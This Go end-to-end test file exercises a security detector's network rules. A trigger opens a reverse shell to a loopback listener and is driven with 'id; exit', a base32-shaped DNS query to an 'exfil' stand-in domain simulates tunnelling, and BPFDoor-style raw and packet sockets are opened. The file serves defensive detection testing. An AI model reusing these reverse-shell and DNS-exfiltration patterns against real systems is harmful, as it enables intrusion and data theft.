package main

import (
	"bufio"
	"encoding/json"
	"io"
	"net"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/event"
)

// The network family's behaviours: a real reverse shell (after a plain TCP
// client that must stay quiet), a DNS query shaped like tunnelled data, and
// the raw sockets of a sniffer or passive backdoor.
func init() {
	scenarios = append(scenarios,
		scenario{"reverse shell", scenarioReverseShell},
		scenario{"DNS tunnelling query", scenarioDNSTunnel},
		scenario{"packet socket with a filter, and a raw TCP socket", scenarioSniffer},
	)
}

// scenarioSniffer: sniffer opens a packet socket for every protocol and
// attaches a socket filter to it, as BPFDoor does, then a raw TCP socket.
// Each is a finding of network-sniffing. (netsock, in the reverse shell's
// scenario, opens ordinary sockets of every kind and must stay quiet.)
func scenarioSniffer(t *testing.T, env *e2eEnv) []expectation {
	var r struct {
		Pid    uint32 `json:"pid"`
		Exe    string `json:"exe"`
		Filter string `json:"filter"`
	}
	runTrigger(t, exec.Command(filepath.Join(env.triggers, "sniffer")), &r)
	t.Logf("sniffer: pid %d, socket filter: %s", r.Pid, r.Filter)
	exe := isExe(r.Exe)
	family := func(fam string) func(*event.Event) bool {
		return func(ev *event.Event) bool { return ev.Args["family"] == fam && ev.Args["type"] == "SOCK_RAW" }
	}
	return []expectation{
		{what: "packet socket (AF_PACKET, ETH_P_ALL)", sigID: "network-sniffing", pid: r.Pid, exe: exe, exeDoc: r.Exe, comm: "sniffer", event: "security_socket_create", also: family("AF_PACKET")},
		{what: "raw TCP socket", sigID: "network-sniffing", pid: r.Pid, exe: exe, exeDoc: r.Exe, comm: "sniffer", event: "security_socket_create", also: family("AF_INET")},
	}
}

// scenarioReverseShell first runs netsock, which does what ordinary
// network programs do over loopback (TCP and UDP, connect, accept, dup of
// sockets to descriptors that are not stdio): no finding may come of it.
// Then it listens on loopback, lets the revshell trigger connect, put the
// socket on its stdio and exec /bin/sh, and drives that shell: "id; exit".
func scenarioReverseShell(t *testing.T, env *e2eEnv) []expectation {
	var plain struct {
		Pid uint32 `json:"pid"`
	}
	runTrigger(t, exec.Command(filepath.Join(env.triggers, "netsock")), &plain)
	env.benign = append(env.benign, plain.Pid)

	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	exe := filepath.Join(env.triggers, "revshell")
	cmd := exec.Command(exe, ln.Addr().String())
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Wait()
	var r struct {
		Pid       uint32 `json:"pid"`
		LocalPort int    `json:"local_port"`
	}
	line, err := bufio.NewReader(stdout).ReadString('\n')
	if err != nil || json.Unmarshal([]byte(line), &r) != nil {
		cmd.Process.Kill()
		t.Fatalf("revshell printed %q: %v", line, err)
	}
	go io.Copy(io.Discard, stdout)

	ln.(*net.TCPListener).SetDeadline(time.Now().Add(10 * time.Second))
	conn, err := ln.Accept()
	if err != nil {
		cmd.Process.Kill()
		t.Fatalf("the reverse shell did not connect: %v", err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := conn.Write([]byte("id; exit\n")); err != nil {
		t.Fatal(err)
	}
	out, err := io.ReadAll(conn)
	if err != nil || !strings.Contains(string(out), "uid=") {
		t.Fatalf("the shell at the other end answered %q (%v), want the output of id", out, err)
	}
	t.Logf("reverse shell pid %d from port %d ran id: %s", r.Pid, r.LocalPort, strings.TrimSpace(string(out)))

	// The dup2 onto stdin happens before the exec: the trigger is still
	// the process; each of fd 0, 1, 2 is a finding.
	return []expectation{{what: "socket put on stdin by dup2 before exec of /bin/sh", sigID: "reverse-shell", pid: r.Pid,
		exe: func(e string) bool { return e == exe }, exeDoc: exe, comm: "revshell", event: "dup2",
		also: func(ev *event.Event) bool {
			return ev.Args["newfd"] == int64(0) && ev.Args["remote_port"] == uint64(ln.Addr().(*net.TCPAddr).Port) &&
				ev.Args["local_port"] == uint64(r.LocalPort)
		}}}
}

// tunnelName is a query shaped like data: base32 in labels near the limit.
const tunnelName = "s4m6q3xfq4tyow4klkf77ymmzrzd5xe56e43frnlzqlqd7z7xhiofmxc72d4a3v.ve2bda5wczvzufr7lkhooubr4gck3zfot5apkd2u.exfil.vigil-e2e.example"

// scenarioDNSTunnel sends one such query to 127.0.0.1:53 (nothing needs
// to answer: the query is what is seen).
func scenarioDNSTunnel(t *testing.T, env *e2eEnv) []expectation {
	exe := filepath.Join(env.triggers, "dnsquery")
	var r struct {
		Pid       uint32 `json:"pid"`
		ID        int    `json:"id"`
		LocalPort int    `json:"local_port"`
	}
	runTrigger(t, exec.Command(exe, "-server", "127.0.0.1:53", tunnelName), &r)
	return []expectation{{what: "DNS query for " + tunnelName[:20] + "...", sigID: "dns-tunneling", pid: r.Pid,
		exe: func(e string) bool { return e == exe }, exeDoc: exe, comm: "dnsquery", event: "net_packet_dns",
		also: func(ev *event.Event) bool {
			return ev.Args["qname"] == tunnelName && ev.Args["id"] == uint64(r.ID) && ev.Args["sport"] == uint64(r.LocalPort)
		}}}
}
